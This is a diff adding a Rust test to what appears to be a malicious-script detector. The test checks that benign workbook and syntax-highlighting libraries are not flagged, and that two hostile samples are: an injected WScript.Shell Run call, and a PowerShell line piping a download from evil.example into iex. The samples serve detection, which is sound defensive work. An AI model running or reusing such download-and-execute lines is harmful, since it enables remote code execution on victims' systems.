@@ -330,3 +330,23 @@ fn a_page_that_tears_the_names_of_objects_runs_as_a_program() {
     assert!(fired(&torn).contains(&"scripts.masked-orders"), "{:?}", fired(&torn));
     assert_eq!(type_of(&case("a.html", page("\"ShockwaveFlash.ShockwaveFlash.\" & i")).examine()), "html");
 }
+
+#[test]
+fn libraries_that_read_workbooks_and_colour_code_are_no_loaders() {
+    let workbook = "\"use strict\";\nvar tag = /<[^>]*>/g;\nfunction parse(r, e) {\n  var m = tag.exec(r);\n  switch (m[0]) {\n    \
+                    case \"string\": case \"fixed\": case \"uuid\": case \"bin.base64\": break;\n    default: throw new Error(\"bad\");\n  \
+                    }\n  try { f = new ActiveXObject(\"MSXML2.DOMDocument\") } catch (e) {}\n  return module.exports = parse;\n}\n";
+    let colours = "module.exports = function (Prism) {\n  var names = /\\b(?:SysGet|Thread|ToolTip|Transform|TrayTip|\
+                   URLDownloadToFile|WinActivate|WinClose|RunWait|WinGet)\\b/i;\n  var more = [/foreach|group|gsn|history|icm|iex|ihy|ii|\
+                   ipal|irm|ise|iwmi|iwr|kill|lp|ls|man/];\n  Prism.languages.autohotkey = { keyword: names, builtin: more };\n};\n";
+    for (name, text) in [("xlsx.js", workbook), ("prism.js", colours)] {
+        let report = case(name, text).examine();
+        assert!(report.judgement.verdict < Verdict::Dangerous, "{name}: {:?}", fired(&report));
+    }
+    // With the host of Windows at hand the same words are an attack.
+    let loader = workbook.replace("return module", "new ActiveXObject(\"WScript.Shell\").Run(f); return module");
+    assert_eq!(case("xlsx.js", loader).examine().judgement.verdict, Verdict::Dangerous);
+    // One order behind another is no list.
+    let piped = "$u='https://evil.example/a'\niwr $u|iex|out-null\nWrite-Host done\n";
+    assert_eq!(case("a.ps1", piped).examine().judgement.verdict, Verdict::Dangerous);
+}
